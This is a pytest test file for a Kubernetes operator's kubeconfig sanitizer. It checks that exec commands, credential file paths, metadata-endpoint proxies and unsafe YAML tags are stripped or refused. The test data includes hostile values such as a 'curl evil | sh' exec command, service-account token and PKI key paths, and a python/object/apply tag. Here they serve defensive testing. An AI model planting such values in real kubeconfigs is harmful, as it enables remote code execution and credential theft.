"""The kubeconfig Secret: written only when the operator's own, and never carrying commands,
file paths or proxies from NKS's answer."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from nks_operator.kube import kubeconfig_secret
from tests.unit.test_argocd_secret import nks_kubeconfig

UID = "5d0c0f6e-uid"


def with_changes(**sections: Any) -> str:
    config = yaml.safe_load(nks_kubeconfig())
    for name, updates in sections.items():
        kind = name[:-1]
        config[name][0][kind].update(updates)
    return yaml.safe_dump(config)


def test_a_clean_kubeconfig_is_kept_byte_for_byte() -> None:
    text = nks_kubeconfig()
    assert kubeconfig_secret.sanitize(text) == text


@pytest.mark.parametrize(
    ("section", "dangerous"),
    [
        ("users", {"exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}}),
        ("users", {"auth-provider": {"name": "oidc", "config": {"cmd-path": "/bin/x"}}}),
        ("users", {"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
        ("users", {"client-key": "/etc/kubernetes/pki/admin.key"}),
        ("users", {"client-certificate": "/etc/kubernetes/pki/admin.crt"}),
        ("clusters", {"certificate-authority": "/etc/kubernetes/pki/ca.crt"}),
        ("clusters", {"proxy-url": "http://169.254.169.254:80"}),
        ("clusters", {"insecure-skip-tls-verify": True}),
    ],
)
def test_commands_paths_and_proxies_are_dropped(section: str, dangerous: dict[str, Any]) -> None:
    original = yaml.safe_load(nks_kubeconfig())
    clean = yaml.safe_load(kubeconfig_secret.sanitize(with_changes(**{section: dangerous})))
    body = clean[section][0][section[:-1]]
    assert not set(dangerous) & set(body)
    # What a remote cluster's kubeconfig needs is all still there.
    assert clean["clusters"][0]["cluster"] == original["clusters"][0]["cluster"]
    assert clean["users"][0]["user"] == original["users"][0]["user"]
    assert clean["current-context"] == original["current-context"]


@pytest.mark.parametrize(
    "text",
    [
        "users: [s3cr3t: {",
        "just text",
        yaml.safe_dump({"clusters": [], "users": []}),
        with_changes(clusters={"server": "http://10.0.0.1:6443"}),
        with_changes(clusters={"server": "file:///etc/passwd"}),
    ],
)
def test_unusable_kubeconfigs_are_refused_without_quoting_them(text: str) -> None:
    with pytest.raises(ValueError) as refused:
        kubeconfig_secret.sanitize(text)
    assert "s3cr3t" not in str(refused.value) and "10.0.0.1" not in str(refused.value)


def test_python_tags_are_refused() -> None:
    """The faster loader is a safe one: a tag that would run code is not YAML to it."""
    text = nks_kubeconfig() + "preferences: !!python/object/apply:builtins.len [[1, 2]]\n"
    with pytest.raises(ValueError, match="not valid YAML"):
        kubeconfig_secret.sanitize(text)


def test_a_trimmed_kubeconfig_is_written_as_the_pure_python_dumper_writes_it() -> None:
    """The text of an existing Secret stays the same, so no Secret is rewritten for a
    change of YAML library alone."""
    dirty = with_changes(users={"exec": {"command": "/bin/sh"}})
    clean = kubeconfig_secret.sanitize(dirty)
    assert clean != dirty
    assert clean == yaml.safe_dump(yaml.safe_load(clean), sort_keys=False)


def owned_secret(**reference: Any) -> dict[str, Any]:
    built = kubeconfig_secret.build(
        {"metadata": {"namespace": "team-a", "name": "demo", "uid": UID}},
        "demo-kubeconfig",
        nks_kubeconfig(),
        "cluster-id",
        None,
    )
    built["metadata"]["ownerReferences"][0].update(reference)
    return built


def test_only_a_secret_made_for_this_nkscluster_is_its_own() -> None:
    assert kubeconfig_secret.is_owned(owned_secret(), UID)
    assert not kubeconfig_secret.is_owned(owned_secret(), "another-uid")
    assert not kubeconfig_secret.is_owned(owned_secret(controller=False), UID)
    foreign = owned_secret()
    del foreign["metadata"]["ownerReferences"]
    assert not kubeconfig_secret.is_owned(foreign, UID)
